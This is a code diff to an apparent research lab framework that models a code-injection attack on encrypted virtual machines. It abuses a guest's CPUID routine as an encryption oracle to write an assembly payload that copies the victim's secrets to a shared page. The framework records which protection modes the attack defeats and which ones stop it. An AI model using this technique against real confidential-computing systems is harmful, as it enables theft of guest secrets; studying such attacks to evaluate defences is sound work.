@@ -3,59 +3,48 @@
 from __future__ import annotations
 
 import struct
+from typing import Final
 
+from cbit.attacks.experiments.correspondent import Owner
+from cbit.attacks.experiments.known_constants import DEFENCES, EXPECT, PARAMETERS, SETUP, SETUPS, kernel
 from cbit.attacks.lab.assemble import assemble
 from cbit.attacks.lab.attack import attack
+from cbit.attacks.lab.built_in import KERNEL
 from cbit.attacks.lab.corpus import Corpus, difference, xor
-from cbit.attacks.lab.guest import CODE, CPUID, HLT, NPF, SECRET, SHARED, VIEW, Program
+from cbit.attacks.lab.guest import CPUID, HLT, NPF
 from cbit.attacks.lab.hands import Hands
 from cbit.attacks.lab.log import Log
-from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
 from cbit.attacks.lab.scene import Facts, Scene
-from cbit.attacks.lab.stand import Setup, Stand
+from cbit.attacks.lab.stand import Stand
 from cbit.attacks.lab.tools import Thwarted, gpa_of
 from cbit.attacks.power import Power
-from cbit.crypto.entropy import SeededEntropy
-from cbit.crypto.memory_modes import Mode as Engine
-from cbit.spec.address import BLOCK, MIB, PAGE
+from cbit.guest.builtin.image import image
+from cbit.guest.builtin.interface import IMAGE, IMAGE_SIZE, NAME, SECRET, SHARED_AT, SHARED_PAGE, SHOWN
+from cbit.spec.address import BLOCK, PAGE
 
-BUFFER, ROUTINE, KERNEL = 0x30000, 0x12300, 0x200000
-
-#: As kernels do at start-up: asks the processor who it is and stores the sixteen bytes of the answer.
-BOOT = f"""
-    mov rdi, {BUFFER:#x}
-    jmp routine
-.org {ROUTINE - CODE:#x}
-routine:
-    cpuid
-    mov [rdi], eax
-    mov [rdi + 4], ebx
-    mov [rdi + 8], ecx
-    mov [rdi + 12], edx
-.org {ROUTINE - CODE + BLOCK:#x}, 0x90
-    xor eax, eax
-    hlt
-    jmp routine
-"""
-#: Begins the block behind the routine's first: back to its start.
-LOOP = b"\xeb" + struct.pack("b", -BLOCK - 2)
-PAYLOAD = f"""
+#: mov eax, esi; cpuid; stosd; mov [rdi], ebx …: the built-in guest asks for its processor's name, as kernels
+#: do: a block of code, aligned as compilers align loops, that stores the sixteen bytes of an answer.
+ROUTINE: Final = bytes.fromhex("89f0 0fa2 ab 891f 894f04 895708 83c70c")
+ASKS_FOR_NAME: Final = 0x80000002  #: CPUID's leaf when it runs first
+#: Begins the block behind it: back to its start.
+LOOP: Final = b"\xeb" + struct.pack("b", -BLOCK - 2)
+OUT: Final = SHARED_AT + SHOWN - SHARED_PAGE
+PAYLOAD: Final = f"""
     mov esi, {SECRET:#x}
-    mov edi, {VIEW + SHARED + PAGE:#x}
-    mov ecx, 8
+    mov edi, {OUT:#x}
+    mov ecx, {PAGE // 8}
     rep movsq
     hlt
 """
 
 
 def booting(stand: Stand) -> Scene:
-    """Start a victim that never touches its secret, beside a large public image."""
-    secret = stand.entropy.draw(64)
-    kernel = SeededEntropy("a kernel that everybody has").draw(stand.number("corpus_mib") * MIB)
-    program = Program(BOOT, data=((KERNEL, kernel),), size=KERNEL + len(kernel))
-    guest = stand.guest(program, secret=secret)
-    facts = Facts({"kernel_at": KERNEL, "kernel": kernel, "routine": ROUTINE, "buffer": BUFFER})
-    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, 64) == secret)
+    """Launch the built-in guest beside a large public image; it has not run yet."""
+    owner, known = Owner.of(stand), kernel(stand)
+    guest = stand.built_in(owner.table, kernel=known)
+    routine = IMAGE + image().index(ROUTINE)
+    facts = Facts({"kernel_at": KERNEL, "kernel": known, "routine": routine, "buffer": NAME})
+    return Scene(owner.secrets, facts, guest, planted=owner.gave(guest))
 
 
 @attack(
@@ -70,18 +59,12 @@ def booting(stand: Stand) -> Scene:
         Power.EMULATE,
         Power.CLIENT,
     },
-    expect={
-        Mode.NONE: does_not_apply("nothing is encrypted: the host writes the victim's code"),
-        Mode.SME: succeeds("the tweak constants are known"),
-        Mode.SEV: succeeds("the tweak constants are known, and there is no integrity"),
-        Mode.SEV_ES: SUCCEEDS,
-        Mode.SEV_SNP: stopped_by("the RMP refuses the host's write"),
-    },
-    defences={"fresh": "Zen 2 and later: the constants are others at each boot, and not the published ones"},
+    expect=EXPECT,
+    defences=DEFENCES,
     victim=booting,
-    setup=Setup(memory=32 * MIB),
-    setups={"fresh": Setup(profile="rome", engine=Engine.XEX, memory=32 * MIB)},
-    parameters={"corpus_mib": 8},
+    setup=SETUP,
+    setups=SETUPS,
+    parameters=PARAMETERS,
 )
 def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
     """Turn a routine of the victim's into an encryption oracle, and write code with what the oracle gives.
@@ -92,7 +75,7 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
     3. Now each CPUID stores sixteen bytes of the adversary's choice under the victim's key, and the
        ciphertext is read at the next one: one exit for each block.
     4. Corrected by the difference of the tweaks, that ciphertext is valid anywhere.  It is put over the jump,
-       and the victim copies its secret to the shared page.
+       and the victim copies its secrets to a shared page.
     """
     routine, buffer = facts.number("routine"), facts.number("buffer")
     corpus = Corpus(hands.memory, facts.number("kernel_at"), facts.data("kernel"), xe=False)
@@ -109,10 +92,13 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
     )
     code = assemble(PAYLOAD, routine + BLOCK)
     code += bytes(-len(code) % BLOCK)
-    oracle, exits = hands.memory.spa(buffer), 0
+    exits = 0
     hands.victim.until(CPUID)
     for at in range(0, len(code), BLOCK):
-        target = behind + at
+        target, oracle = (
+            behind + at,
+            hands.memory.spa(buffer + at),
+        )  # the routine goes on by a block each time
         wanted = xor(code[at : at + BLOCK], difference(oracle, target))
         for name, word in zip(("rax", "rbx", "rcx", "rdx"), struct.unpack("<4I", wanted), strict=True):
             hands.emulation[name] = word
@@ -131,7 +117,7 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
     hands.caches.write_back()
     hands.victim.skip(2)
     hands.victim.until(HLT)
-    loot = hands.client.answer(64)
+    loot = hands.service.shared(SHOWN, PAGE)
     log.step("the victim has run the injected code", loot)
     blocks = len(code) // BLOCK
     log.figure(
@@ -152,7 +138,9 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
 
 def _wait_for(hands: Hands, page: int, log: Log) -> None:
     """Let the victim run until it is about to execute a page."""
-    hands.tables.forbid_execution(*(gpa for gpa in hands.tables.pages() if gpa < KERNEL))
+    hands.tables.forbid_execution(
+        *(gpa for gpa in hands.tables.pages() if gpa in range(IMAGE, IMAGE + IMAGE_SIZE))
+    )
     faults = 0
     while True:
         exit = hands.victim.until(NPF)
